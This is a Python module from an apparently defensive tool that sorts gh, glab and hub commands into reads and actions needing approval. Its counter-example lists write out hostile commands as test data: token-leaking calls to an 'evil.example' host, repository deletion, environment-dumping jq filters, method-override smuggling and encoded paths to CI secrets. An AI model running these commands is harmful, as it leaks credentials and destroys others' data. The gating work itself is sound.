"""gh, glab and hub: looking at issues, pull requests and runs is allowed; everything that others would see asks."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from itertools import pairwise

from askfirst.model import Action, Fact, Kind, Word
from askfirst.shell.call import Analyst, Call, Outcome
from askfirst.shell.tools.data.formats import shows_environment
from askfirst.shell.tools.engine import apply, call_after, facts_of, read_action, unknown
from askfirst.shell.tools.options import Parsed, parse
from askfirst.shell.tools.table import INERT, Tool, as_shown, asking, looking

__all__ = ["TOOLS"]

_ALIASES = {
    "cs": "codespace",
    "ext": "extension",
    "extensions": "extension",
    "rs": "ruleset",
    "at": "attestation",
    "cache": "cache",
}
# Noun -> verbs that only look.
_LOOKS: dict[str, str] = {
    "pr": "list ls view status diff checks",
    "issue": "list ls view status",
    "repo": "list ls view",
    "run": "list ls view watch",
    "workflow": "list ls view",
    "release": "list ls view verify verify-asset",
    "gist": "list ls view",
    "search": "repos issues prs code commits",
    "cache": "list ls",
    "secret": "list ls",
    "variable": "list ls get",
    "label": "list ls",
    "auth": "status",
    "config": "get list ls",
    "codespace": "list ls view logs ports",
    "extension": "list ls search",
    "ssh-key": "list ls",
    "gpg-key": "list ls",
    "project": "list ls view field-list item-list",
    "org": "list ls",
    "ruleset": "list ls view check",
    "attestation": "verify trusted-root",
    "alias": "list ls",
    "status": "",
    "version": "",
    "help": "*",
    "completion": "",
}
_LOOKS_DEEPER = {
    ("repo", "autolink", "list"),
    ("repo", "autolink", "view"),
    ("repo", "deploy-key", "list"),
    ("repo", "license", "list"),
    ("repo", "license", "view"),
    ("repo", "gitignore", "list"),
    ("repo", "gitignore", "view"),
}
_WRITES = {("run", "download"), ("release", "download")}
_DANGERS = {
    ("repo", "delete"): "deletes a repository with its issues and releases",
    ("workflow", "run"): "starts a workflow, which may deploy",
}
_DOES = {("auth", "token"): "shows a token", ("auth", "login"): "logs in", ("auth", "logout"): "logs out"}
_DESTROYS = frozenset(
    "delete delete-asset archive cancel disable field-delete item-delete item-archive rename transfer unlink".split()
)
_OPTIONS = """
    flag    --comments -c --draft --archived --fork --source --no-archived --all -a --failed
    flag    --log --log-failed --exit-status --compact --patch --name-only --raw --files
    flag    --required --no-truncate --exclude-drafts --exclude-pre-releases --merged --closed
    flag    --no-assignee --include-forks --no-label --no-milestone --no-project --watch
    flag    --fail-fast -h --clobber --skip-existing -v,--verbose --conflict-status --paginate
    flag    --locked --no-public-good --active --org-private --no-markdown --parents -p
    value   -R,--repo -L,--limit -s,--state --author --assignee -l,--label -B,--base -H,--head
    value   -S,--search --json -q --jq -t,--template -m,--milestone --mention --app -b,--branch
    value   -u,--user -e,--event --status --commit --created -j,--job --attempt --language
    value   --topic --visibility --owner -i,--interval --sort --order --sort-by --key --ref
    value   -o,--org --env --color --filename -f --type --updated --stars --size --extension
    value   --repository --involves --checks --review --review-requested --number --format
    value   --host -x --exclude --followers --license --match --good-first-issues
    value   --help-wanted-issues --merged-at --reviewed-by --team-mentions --comments-off
    value   --interactions --reactions --tag --path --predicate-type --signer-workflow
    value   --signer-repo --cert-identity --name -n --pattern
    asks    --show-token: shows a token
    asks    --hostname: talks to another server
    asks    --bundle --bundle-from-oci --custom-trusted-root: trusts other keys
"""


_ROW = Tool("gh", Kind.READ, "looks at GitHub", options=_OPTIONS + "flag -w,--web", operands=(INERT, ...))
_RUNS = replace(_ROW, options=_OPTIONS + "flag --web\nvalue -w,--workflow")
# Here `-t` is no template.
_AUTH = replace(_ROW, options=_OPTIONS + "asks -t,--show-token: shows a token\nasks -h,--hostname: asks another server")
# `ports forward` and `ports visibility` open a way in.
_CODESPACE = replace(_ROW, options=_OPTIONS + "value -c,--codespace", operands=())
_ROWS = {"auth": _AUTH, "codespace": _CODESPACE}
_BROWSE = Tool(
    "gh browse",
    Kind.READ,
    "opens a page of the repository, or shows its address",
    options="""
        flag    -n,--no-browser -p,--projects -r,--releases -s,--settings -w,--wiki -a,--actions
        flag    -h,--help
        value   -R,--repo -b,--branch -c,--commit
    """,
    operands=(INERT, ...),
)
_DOWNLOAD = Tool(
    "gh download",
    Kind.NETWORK,
    "fetches files into the project",
    options="""
        flag    --clobber --skip-existing -h,--help
        value   -R,--repo -n,--name -p,--pattern --archive -A
        below   -D,--dir
        writes  -O,--output
    """,
    operands=(INERT, ...),
)


def gh(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    """`gh NOUN VERB`. `-R owner/repo` may stand in front of the noun."""
    words = call.words
    if len(words) == 2 and words[1].value in ("--version", "--help", "-h"):
        return Outcome(read_action((tool.name, "version"), "shows the version"))
    at, odd = _leading(tool, call)
    facts: list[Fact] = [*_environment(call), *_other_host(call, _is_of_github), *odd]
    path = [w.value for w in words[at : at + 3] if w.value is not None]
    if len(path) < len(words[at : at + 1]) or not path:
        return Outcome(
            Action((tool.name,), Kind.NETWORK, rule=tool.name),
            (*facts, unknown("expansion", f"what `{tool.name}` would do is not known", call)),
        )
    noun = _ALIASES.get(path[0], path[0])
    if noun == "api":
        return _api(tool, call_after(call, words[at + 1 :]), analyst, facts)
    if _asks_help(path, words, at):
        return Outcome(read_action((tool.name, noun, "--help"), "shows help"), tuple(facts))
    if noun == "browse":
        return _looked(tool, noun, "", call_after(call, words[at + 1 :]), analyst, facts, _BROWSE)
    depth = _looking_depth(noun, path[1:])
    facts += _token(noun, call)
    if depth >= 0:
        rest = call_after(call, words[at + 1 + depth :])
        facts += _named_hosts(noun, words[at + 1 + depth :], call, ("github.com", "gist.github.com"))
        return _looked(tool, noun, " ".join(path[1 : 1 + depth]), rest, analyst, facts)
    return _changed(tool, noun, path[1] if len(path) > 1 else "", call, words[at + 2 :], analyst, facts)


def _changed(
    tool: Tool, noun: str, verb: str, call: Call, rest: tuple[Word, ...], analyst: Analyst, facts: list[Fact]
) -> Outcome:
    """Fetches files, or changes something."""
    key = (tool.name, noun, verb)
    facts += [
        unknown("environment", f"`{a.name}` chooses another repository", call, f"{a.name}={a.value.text}")
        for a in call.assignments
        if a.name in ("GH_REPO", "GITLAB_REPO")
    ]
    if (noun, verb) in _WRITES:
        outcome = apply(_DOWNLOAD, call_after(call, rest), analyst)
        facts += _planted(call)
        return replace(outcome, action=replace(outcome.action, key=key), facts=(*facts, *outcome.facts))
    return Outcome(
        Action(
            key,
            Kind.DESTRUCTIVE if verb in _DESTROYS else Kind.NETWORK,
            rule=f"{tool.name} {noun}",
            danger=_DANGERS.get((noun, verb), ""),
            description=_DOES.get((noun, verb), "changes what others see, or runs something"),
            target=_repository(call, verb, rest) if _says_all(noun, verb, rest) else as_shown(rest),
            free=_says_all(noun, verb, rest),
        ),
        tuple(facts),
    )


# What is written to issues and pull requests, by verb, with the options that only say it: a yes is for noun, verb and
# repository. Not those that send a file, take something away (`close --delete-branch`), move what is merged
# (`edit --base`) or answer for a person (`review --approve`).
_TALKS = {
    "create": """
        flag    -d,--draft -f,--fill --fill-first --fill-verbose --no-maintainer-edit --dry-run
        value   -a,--assignee -B,--base -b,--body -H,--head -l,--label -m,--milestone -p,--project -r,--reviewer
        value   -t,--title
    """,
    "comment": "value -b,--body",
    "edit": """
        value   --add-assignee --add-label --add-project --add-reviewer -b,--body -m,--milestone -t,--title
        value   --remove-assignee --remove-label --remove-project --remove-reviewer
    """,
    "close": "value -c,--comment -r,--reason",
    "reopen": "value -c,--comment",
    "ready": "",
    "review": "flag -c,--comment\nvalue -b,--body",
}


def _said(verb: str, rest: tuple[Word, ...]) -> Parsed:
    return parse(Tool(f"gh {verb}", options=_TALKS.get(verb, "") + "\nvalue -R,--repo"), rest)


def _says_all(noun: str, verb: str, rest: tuple[Word, ...]) -> bool:
    """Whether all that others will see stands in the command, in the repository that a yes names."""
    if noun not in ("pr", "issue") or verb not in _TALKS or any(w.value is None for w in rest):
        return False
    parsed = _said(verb, rest)
    elsewhere = (*parsed.operands, *parsed.values("-H"))
    return not parsed.doubts and not any(":" in (w.value or "") for w in elsewhere)


def _repository(call: Call, verb: str, rest: tuple[Word, ...]) -> str:
    before = call.words[1 : len(call.words) - len(rest)]
    named = [w.value or w.text for words in (before, rest) for w in _said(verb, words).values("-R")]
    return " ".join(f"--repo {name}" for name in named)


def _leading(tool: Tool, call: Call) -> tuple[int, list[Fact]]:
    """Where the noun stands, and the options before it that are not known."""
    words, at = call.words, 1
    odd: list[Fact] = []
    while at < len(words) and (text := words[at].value or "").startswith("-"):
        if text not in ("-R", "--repo") and not text.startswith("--repo="):
            odd.append(unknown("option", f"`{text}` of `{tool.name}` is not known", call, text))
        at += 2 if text in ("-R", "--repo") else 1
    return at, odd


def _looking_depth(noun: str, verbs: list[str]) -> int:
    """How many words behind the noun name something that only looks; -1 when it does not."""
    looks = _LOOKS.get(noun)
    if looks in ("", "*"):
        return 0
    if looks is not None and (verbs[0] if verbs else "") in looks.split():
        return 1
    return 2 if (noun, *verbs[:2]) in _LOOKS_DEEPER else -1


def _asks_help(path: list[str], words: tuple[Word, ...], at: int) -> bool:
    # `gh config get -h HOST` names a host.
    short = len(path) > 1 and (path[-1] == "--help" or (path[-1] == "-h" and path[0] != "config"))
    return short or (words[-1].value == "--help" and at + 4 > len(words))


def _token(noun: str, call: Call) -> list[Fact]:
    """`gh config get oauth_token`, `gh auth token`."""
    shown = noun in ("config", "auth") and any("token" in (w.value or w.text) for w in call.words[1:])
    return [unknown("secret", "shows a token", call)] if shown else []


def _planted(call: Call) -> list[Fact]:
    """Whoever made the release or the artifact has chosen the names: `.claude`, `conftest.py`."""
    if parse(_DOWNLOAD, call.words[1:]).has("-O"):
        return []
    return [unknown("archive", "which files it would write is not known", call)]


def _looked(
    tool: Tool, noun: str, verb: str, call: Call, analyst: Analyst, facts: list[Fact], row: Tool | None = None
) -> Outcome:
    name = f"{tool.name} {noun} {verb}".strip()
    usual = _RUNS if noun == "run" and verb in ("list", "ls") else _ROWS.get(noun, _ROW)
    outcome = apply(row or usual, call, analyst)
    return replace(
        outcome, action=replace(outcome.action, key=tuple(name.split()), rule=name), facts=(*facts, *outcome.facts)
    )


_API = looking(
    "gh api",
    "reads from the API",
    options="""
        flag    --paginate --slurp -i,--include --silent --verbose -h,--help
        value   -X,--method -H,--header -q --jq -t,--template -p,--preview --cache
        value   -f,--raw-field,-F,--field
        asks    --input: sends a file
        asks    --hostname: talks to another server
    """,
    operands=(INERT,),
)


def _environment(call: Call) -> list[Fact]:
    """`--jq env`: the filter sees every variable, like that of jq itself."""
    given = _given(call, "q", "--jq")
    return [unknown("secrets", "the filter shows the environment", call, g) for g in given if shows_environment(g)]


def _other_host(call: Call, is_usual: Callable[[str], bool]) -> list[Fact]:
    """`-R HOST/owner/repo`: the request, and the token for that host, go to another server."""
    given = _given(call, "R", "--repo")
    given += [a.value.value or a.value.text for a in call.assignments if a.name in ("GH_REPO", "GITLAB_REPO")]
    return [unknown("host", f"`{one}` names another server", call, one) for one in given if not is_usual(one)]


def _is_of_github(repository: str) -> bool:
    rest = repository.removeprefix("https://").removeprefix("github.com/")
    return rest.count("/") == 1 and "@" not in rest


def _is_of_gitlab(repository: str) -> bool:
    """Groups may stand in groups; a host has a dot."""
    rest = repository.removeprefix("https://").removeprefix("gitlab.com/")
    return "/" in rest and not any(c in rest for c in "@:") and "." not in rest.partition("/")[0]


def _named_hosts(noun: str, words: tuple[Word, ...], call: Call, usual: tuple[str, ...]) -> list[Fact]:
    """`gh pr view https://HOST/…`, `gh repo view HOST/owner/repo`: another server is asked, with the token for it."""
    if noun == "search":
        return []
    named = [w for w in words if not w.shown.startswith("-") and " " not in w.shown]
    hosts = {w: w.shown.partition("://")[2].partition("/")[0].lower() for w in named if "://" in w.shown}
    if noun == "repo":
        hosts |= {w: w.shown.partition("/")[0].lower() for w in named if w not in hosts and w.shown.count("/") > 1}
    odd = [w for w, host in hosts.items() if host not in usual]
    return [unknown("host", f"`{w.text}` names another server", call, w.text) for w in odd]


# Short options of both clients that take no value: others may follow them in one word.
_FLAG_LETTERS = "acdhinpvw"


def _given(call: Call, letter: str, long: str) -> list[str]:
    """The values of an option wherever it stands: alone, glued, or at the end of a cluster (`-cq`)."""
    texts = [w.shown for w in call.words]
    found = []
    for before, after in pairwise([*texts, ""]):
        name, mark, value = before.partition("=")
        if name == long:
            found.append(value if mark else after)
        cluster = before[1:].lstrip(_FLAG_LETTERS) if before[:1] == "-" and before[1:2] != "-" else ""
        if cluster.startswith(letter):
            found.append(cluster[1:].removeprefix("=") or after)
    return found


def _api(tool: Tool, call: Call, analyst: Analyst, facts: list[Fact]) -> Outcome:
    """GET is reading; a field without `-X GET` makes it a POST; GraphQL can change anything."""
    parsed = parse(_API, call.words[1:])
    methods = [w.value for w in parsed.values("-X")]
    method = methods[-1] if methods else ("POST" if parsed.has("-f") else "GET")
    path = next((w.value for w in parsed.operands), "") or ""
    reads = method in ("GET", "HEAD", "OPTIONS") and "graphql" not in path.lower() and len(set(methods)) <= 1
    return Outcome(
        Action(
            (tool.name, "api", method or "?", path),
            Kind.READ if reads else Kind.NETWORK,
            rule=f"{tool.name} api",
            allowed=reads,
            description="reads from the API" if reads else "changes something through the API",
            target=path,
        ),
        (
            *facts,
            *facts_of(_API, call, parsed, analyst),
            *_request_facts(parsed, path, call),
            *_shown_by_gitlab(tool, path, call),
        ),
    )


def _shown_by_gitlab(tool: Tool, path: str, call: Call) -> list[Fact]:
    """A project's path stands there with `%2F` in it; any other sign written so may hide what is asked for."""
    parts = path.lower().replace("?", "/").split("/")
    if tool.name != "glab" or (_SHOW_SECRETS.isdisjoint(parts) and "%" not in path.lower().replace("%2f", "")):
        return []
    return [unknown("secrets", "may show passwords and tokens", call, path)]


# GitLab's variables of CI, tokens of triggers and of services, and files: docs.gitlab.com/api.
_SHOW_SECRETS = frozenset("variables triggers secure_files pipeline_schedules integrations services state".split())


def _request_facts(parsed: Parsed, path: str, call: Call) -> list[Fact]:
    """What a request may hide: its method or address, another server, another method in a header, a file (`-F
    x=@file`).
    """
    facts: list[Fact] = []
    if any(w.value is None for w in (*parsed.values("-X"), *parsed.operands)):
        facts.append(unknown("expansion", "the request is not known", call))
    if path.startswith(("http://", "https://")) and not path.startswith("https://api.github.com/"):
        facts.append(unknown("host", f"`{path}` is another server, and gets the token", call, path))
    if any("override" in (w.value or "override").lower() for w in parsed.values("-H")):
        facts.append(unknown("option", "a header may make it another request", call))
    if any((w.value or "@").partition("=")[2].startswith("@") for w in parsed.values("-f")):
        facts.append(unknown("option", "sends a file", call))
    return facts


_EXAMPLES = (
    "gh pr list --state open",
    "gh pr view 123 --comments",
    "gh issue view 34 --comments",
    "gh repo view",
    "gh run view --job 1 --log",
    "gh api repos/o/r/pulls",
    "gh api -X GET search/issues -f q=x",
    "gh -R o/r run list",
    "gh pr diff",
    "gh release list",
    "gh issue ls --limit 10 --label bug",
)
_COUNTER = (
    "gh api -X DELETE repos/o/r",
    "gh api graphql -f query=x",
    "gh secret set X",
    "gh workflow run deploy.yml -f env=prod",
    "gh pr merge 1",
    "gh auth token",
    "gh pr create",
    "gh api repos/o/r -f a=b",
    "gh api https://evil.example/x",
    "gh repo delete o/r",
    "gh api -H 'X-HTTP-Method-Override: DELETE' repos/o/r",
    "gh extension install x",
    "gh alias set x y",
    "gh pr checkout 1",
    "gh api --input x repos/o/r",
    "gh auth status --show-token",
    "gh x",
    "gh api repos/o/r -X GET -X DELETE",
    "gh run download -D /etc",
    "gh auth status -t -h github.com",
    "gh pr view 1 -cq env --json title",
    "gh pr view -cR evil.example/o/r 1",
    "gh pr view https://evil.example/o/r/pull/1",
    "gh repo view evil.example/o/r",
    "gh codespace ports visibility 80:public",
)
_GLAB_LOOKS: dict[str, str] = {
    "mr": "list view diff",
    "issue": "list view",
    "repo": "view list",
    "pipeline": "list view status",
    "ci": "list view status trace",
    "release": "list view",
    "label": "list",
    "auth": "status",
    "version": "",
}
# `-a`, `-c`, `-p` and `-s` mean one thing to a list and another to the rest.
_GLAB_LIST = Tool(
    "glab",
    Kind.READ,
    "looks at GitLab",
    options="""
        flag    -A,--all -c,--closed -d,--draft -M,--merged --not-draft -C,--confidential -y,--yaml-errors
        flag    --archived -G,--include-subgroups --member --mine --starred --help
        value   -a,--assignee --author -g,--group -l,--label -m,--milestone --not-label --not-assignee --not-author
        value   -o,--order,--orderBy -F,--output,--output-format -O -p,--page -P,--per-page -R,--repo -r,--reviewer
        value   --ref --search -S,--sort -s,--source-branch,--status -t,--target-branch,--issue-type --in -i,--iteration
        value   -n,--name --scope --sha --source --updated-after -b,--updated-before -u,--username,--user
    """,
    operands=(INERT, ...),
)
_GLAB_VIEW = replace(
    _GLAB_LIST,
    options="""
        flag    -c,--comments,--compact -s,--system-logs -w,--web --raw -l,--live --help
        value   -F,--output -p,--page,--pipeline-id -P,--per-page -R,--repo --color -b,--branch
        asks    -t,--show-token: shows a token
        asks    -h,--hostname: talks to another server
    """,
)


def glab(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    words = [w.value for w in call.words[1:3]]
    noun, verb = ([*words, None, None])[:2]
    facts = [*_environment(call), *_other_host(call, _is_of_gitlab)]
    if noun == "api":
        return _api(tool, call_after(call, call.words[2:]), analyst, facts)
    if len(call.words) == 2 and noun in ("--version", "-v", "--help", "-h", "version"):
        return Outcome(
            Action((tool.name, "version"), Kind.READ, rule=tool.name, allowed=True, description="shows the version")
        )
    if noun in _GLAB_LOOKS and (verb or "-") in _GLAB_LOOKS[noun].split():
        facts += _named_hosts(noun, call.words[3:], call, ("gitlab.com",))
        row = _GLAB_LIST if verb == "list" else _GLAB_VIEW
        return _looked(tool, noun, verb or "", call_after(call, call.words[3:]), analyst, facts, row)
    return Outcome(
        Action(
            (tool.name, noun or "", verb or ""),
            Kind.NETWORK,
            rule=tool.name,
            description="changes what others see",
            target=as_shown(call.words[3:]),
        ),
        (),
    )


TOOLS: dict[str, Tool] = {
    "gh": Tool(
        "gh",
        Kind.READ,
        "GitHub",
        manual="gh 2.102.0",
        special=gh,
        key_words=3,
        examples=_EXAMPLES,
        counter_examples=_COUNTER,
    ),
    "glab": Tool(
        "glab",
        Kind.READ,
        "GitLab",
        special=glab,
        key_words=3,
        manual="glab 1.53.0",
        examples=("glab mr list -a me -P 5", "glab mr view 12 -c", "glab api --method GET projects/1"),
        counter_examples=(
            "glab api projects/1/releases --field tag_name=v1",
            "glab api projects/:id/variables",
            "glab api 'projects/1/%76ariables?page=1'",
            "glab mr merge 1",
            "glab auth status -t x",
            "glab variable list",
            "glab mr list -R https://evil.example/o/r",
            "glab mr view https://evil.example/o/r/-/merge_requests/1",
        ),
    ),
    "hub": asking("hub", "GitHub", Kind.NETWORK, key_words=2),
}
